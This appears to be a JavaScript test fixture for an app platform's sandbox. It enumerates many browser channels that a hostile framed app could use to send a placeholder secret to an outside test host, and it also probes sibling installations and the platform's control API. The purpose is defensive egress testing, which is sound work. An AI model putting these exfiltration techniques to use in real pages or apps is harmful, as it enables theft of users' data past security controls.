// The ways out of a page, each as a function that a hostile app runs in its own frame.
// `to` is an address whose host name is the attempt's own; `udp` a port that listens for
// datagrams; `near` are addresses on this machine's origins.
export const channels = {
  fetch: (to) => fetch(to + '/?d=secret', { mode: 'no-cors' }),
  'fetch keepalive': (to) => fetch(to + '/?d=secret', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret' }),
  XMLHttpRequest: (to) => { const x = new XMLHttpRequest(); x.open('POST', to); x.send('secret'); },
  beacon: (to) => navigator.sendBeacon(to, 'secret'),
  EventSource: (to) => new EventSource(to),
  WebSocket: (to) => new WebSocket(to.replace('https:', 'wss:')),
  WebTransport: (to, udp) => new WebTransport(`https://${new URL(to).hostname}:${udp}/`),
  image: (to) => { new Image().src = to + '/i.png?d=secret'; },
  'image srcset': (to) => { const i = new Image(); i.srcset = to + '/i.png 1x'; document.body.append(i); },
  'CSS image': (to) => { document.body.style.backgroundImage = `url(${to}/b.png)`; },
  'CSS adopted sheet': (to) => { const s = new CSSStyleSheet(); s.replaceSync(`body{background:url(${to}/a.png)}`); document.adoptedStyleSheets = [s]; },
  'CSS import': (to) => { const l = document.createElement('style'); l.textContent = `@import url(${to}/s.css);`; document.head.append(l); },
  'CSS link': (to) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = to + '/s.css'; document.head.append(l); },
  font: (to) => { const f = new FontFace('f', `url(${to}/f.woff2)`); document.fonts.add(f); return f.load(); },
  video: (to) => { const v = document.createElement('video'); v.src = to + '/v.mp4'; v.poster = to + '/p.png'; document.body.append(v); v.load(); },
  track: (to) => { const v = document.createElement('video'), t = document.createElement('track'); v.crossOrigin = 'anonymous'; t.default = true; t.src = to + '/t.vtt'; v.append(t); document.body.append(v); t.track.mode = 'showing'; },
  script: (to) => { const s = document.createElement('script'); s.src = to + '/s.js'; document.head.append(s); },
  'module import': (to) => { const s = document.createElement('script'); s.type = 'module'; s.src = to + '/m.js'; document.head.append(s); return import(to + '/n.js'); },
  prefetch: (to) => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = to + '/p'; document.head.append(l); },
  prerender: (to) => { const l = document.createElement('link'); l.rel = 'prerender'; l.href = to + '/p'; document.head.append(l); },
  preconnect: (to) => { const l = document.createElement('link'); l.rel = 'preconnect'; l.href = to; document.head.append(l); },
  'dns-prefetch': (to) => { const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = to; document.head.append(l); },
  'dns-prefetch of a link': (to) => {
    const m = document.createElement('meta'); m.httpEquiv = 'x-dns-prefetch-control'; m.content = 'on'; document.head.append(m);
    const a = document.createElement('a'); a.href = to; a.textContent = 'x'; document.body.append(a);
  },
  preload: (to) => { for (const as of ['image', 'script', 'fetch']) { const l = document.createElement('link'); l.rel = 'preload'; l.as = as; l.href = to + '/' + as; document.head.append(l); } },
  modulepreload: (to) => { const l = document.createElement('link'); l.rel = 'modulepreload'; l.href = to + '/m.js'; document.head.append(l); },
  manifest: (to) => { const l = document.createElement('link'); l.rel = 'manifest'; l.href = to + '/m.json'; document.head.append(l); },
  'speculation rules': (to) => {
    const s = document.createElement('script'); s.type = 'speculationrules';
    s.textContent = JSON.stringify({ prefetch: [{ urls: [to + '/s'], eagerness: 'immediate' }], prerender: [{ urls: [to + '/t'], eagerness: 'immediate' }] });
    document.head.append(s);
  },
  'form post': (to) => { const f = document.createElement('form'); f.method = 'post'; f.action = to; document.body.append(f); f.submit(); },
  'form to a popup': (to) => { const f = document.createElement('form'); f.action = to; f.target = '_blank'; document.body.append(f); f.submit(); },
  'self-navigation': (to) => { location.href = to + '/?d=secret'; },
  'self-navigation by replace': (to) => { location.replace(to + '/?d=secret'); },
  'meta refresh': (to) => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + to; document.head.append(m); },
  'base and a relative request': (to) => { const b = document.createElement('base'); b.href = to + '/'; document.head.append(b); new Image().src = 'relative.png'; },
  popup: (to) => { window.open(to + '/?d=secret'); },
  'popup without opener': (to) => { window.open(to + '/?d=secret', '_blank', 'noopener'); },
  'popup of its own page': (to) => { const w = window.open('about:blank'); if (w) w.location = to; },
  'link to a new tab': (to) => { const a = document.createElement('a'); a.href = to; a.target = '_blank'; document.body.append(a); a.click(); },
  'link with ping': (to) => { const a = document.createElement('a'); a.href = '#x'; a.ping = to; document.body.append(a); a.click(); },
  download: (to) => { const a = document.createElement('a'); a.href = to + '/?d=secret'; a.download = 'x'; document.body.append(a); a.click(); },
  'top navigation': (to) => { top.location = to; },
  'parent navigation': (to) => { parent.location = to; },
  'javascript: link': (to) => { const a = document.createElement('a'); a.href = `javascript:location='${to}'`; document.body.append(a); a.click(); },
  frame: (to) => { const f = document.createElement('iframe'); f.src = to; document.body.append(f); },
  'srcdoc frame': (to) => { const f = document.createElement('iframe'); f.srcdoc = `<img src="${to}/i.png"><meta http-equiv=refresh content="0;url=${to}"><link rel=stylesheet href="${to}/s.css">`; document.body.append(f); },
  'blob: frame': (to) => { const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([`<img src="${to}/i.png">`], { type: 'text/html' })); document.body.append(f); },
  'data: frame': (to) => { const f = document.createElement('iframe'); f.src = `data:text/html,<img src="${to}/i.png">`; document.body.append(f); },
  'new realm': (to) => { const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow; w.fetch(to, { mode: 'no-cors' }).catch(() => {}); new w.Image().src = to + '/r.png'; },
  'object and embed': (to) => { for (const n of ['object', 'embed']) { const o = document.createElement(n); o[n === 'object' ? 'data' : 'src'] = to; document.body.append(o); } },
  worker: (to) => new Worker('worker.js#' + encodeURIComponent(to)),
  'blob: worker': (to) => new Worker(URL.createObjectURL(new Blob([`fetch('${to}', {mode: 'no-cors'})`], { type: 'text/javascript' }))),
  'shared worker': (to) => new SharedWorker('worker.js#' + encodeURIComponent(to)),
  'service worker': (to) => navigator.serviceWorker.register('service.js?to=' + encodeURIComponent(to)),
  worklet: (to) => CSS.paintWorklet.addModule(to + '/w.js'),
  WebRTC: async (to, udp) => {
    for (const host of [new URL(to).hostname, '127.0.0.1']) {
      const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:${udp}` }] });
      c.createDataChannel('x');
      await c.setLocalDescription(await c.createOffer());
    }
  },
  'WebRTC in a new realm': async (to, udp) => {
    const f = document.createElement('iframe'); document.body.append(f);
    const c = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
    c.createDataChannel('x');
    await c.setLocalDescription(await c.createOffer());
  },
  'SVG use': (to) => { document.body.insertAdjacentHTML('beforeend', `<svg><use href="${to}/u.svg#a"/><image href="${to}/i.png"/><filter id=f><feImage href="${to}/f.png"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`); },
  'SVG foreignObject': (to) => { document.body.insertAdjacentHTML('beforeend', `<svg width=99 height=99><foreignObject width=99 height=99><img src="${to}/i.png"><iframe src="${to}"></iframe></foreignObject></svg>`); },
  'report endpoints': (to) => { new ReportingObserver(() => {}).observe(); const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = `img-src 'none'; report-uri ${to}; report-to x`; document.head.append(m); new Image().src = to + '/i.png'; },
  'fenced frame': (to) => { const f = document.createElement('fencedframe'); if (window.FencedFrameConfig) f.config = new FencedFrameConfig(to); document.body.append(f); },
  payment: (to) => { new PaymentRequest([{ supportedMethods: to }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(); },
  'external protocol': (to) => { location.href = to.replace('https:', 'mailto:x@'); },
  // These reach no host: what is counted is whether it came to pass.
  clipboard: async () => { await navigator.clipboard.writeText('secret'); return 'came to pass'; },
  'cookie for siblings': () => { document.cookie = 'leak=1; domain=' + location.hostname.split('.').slice(1).join('.'); document.cookie = 'own=1'; return document.cookie ? 'came to pass' : ''; },
  opener: () => { if (opener) { opener.postMessage('secret', '*'); return 'came to pass'; } return ''; },
};

// What may be reached where fetch.client (https and wss) and images are granted for the hosts:
// the ways that these two are made of, in whichever frame or worker of the app.
export const granted = new Set(['fetch', 'fetch keepalive', 'XMLHttpRequest', 'beacon', 'EventSource', 'WebSocket', 'WebTransport', 'link with ping', 'worker', 'shared worker', 'new realm', 'preload', 'prefetch',
  'image', 'image srcset', 'CSS image', 'CSS adopted sheet', 'video', 'srcdoc frame', 'blob: frame', 'data: frame', 'SVG use', 'SVG foreignObject', 'report endpoints']);

// near are ways to places on this machine that belong to the platform or to another
// installation; what they reach is seen in the browser.
export const near = {
  'self-navigation to a sibling': (at) => { location.href = at.sibling + '?d=secret'; },
  'frame of a sibling': (at) => { const f = document.createElement('iframe'); f.src = at.sibling; document.body.append(f); },
  'fetch of a sibling': (at) => fetch(at.sibling, { mode: 'no-cors' }),
  'self-navigation to a web trigger': (at) => { location.href = at.hook + '/?d=secret'; },
  'fetch of a web trigger': (at) => fetch(at.hook + '/?d=secret', { mode: 'no-cors' }),
  'image of a web trigger': (at) => { new Image().src = at.hook + '/?d=secret'; },
  'self-navigation to the platform': (at) => { location.href = at.ui + '/?d=secret'; },
  'fetch of the platform': (at) => fetch(at.ui + '/', { mode: 'no-cors', credentials: 'include' }),
  'fetch of the control API': (at) => fetch(at.control + '/api/v1/whoami', { mode: 'no-cors' }),
};
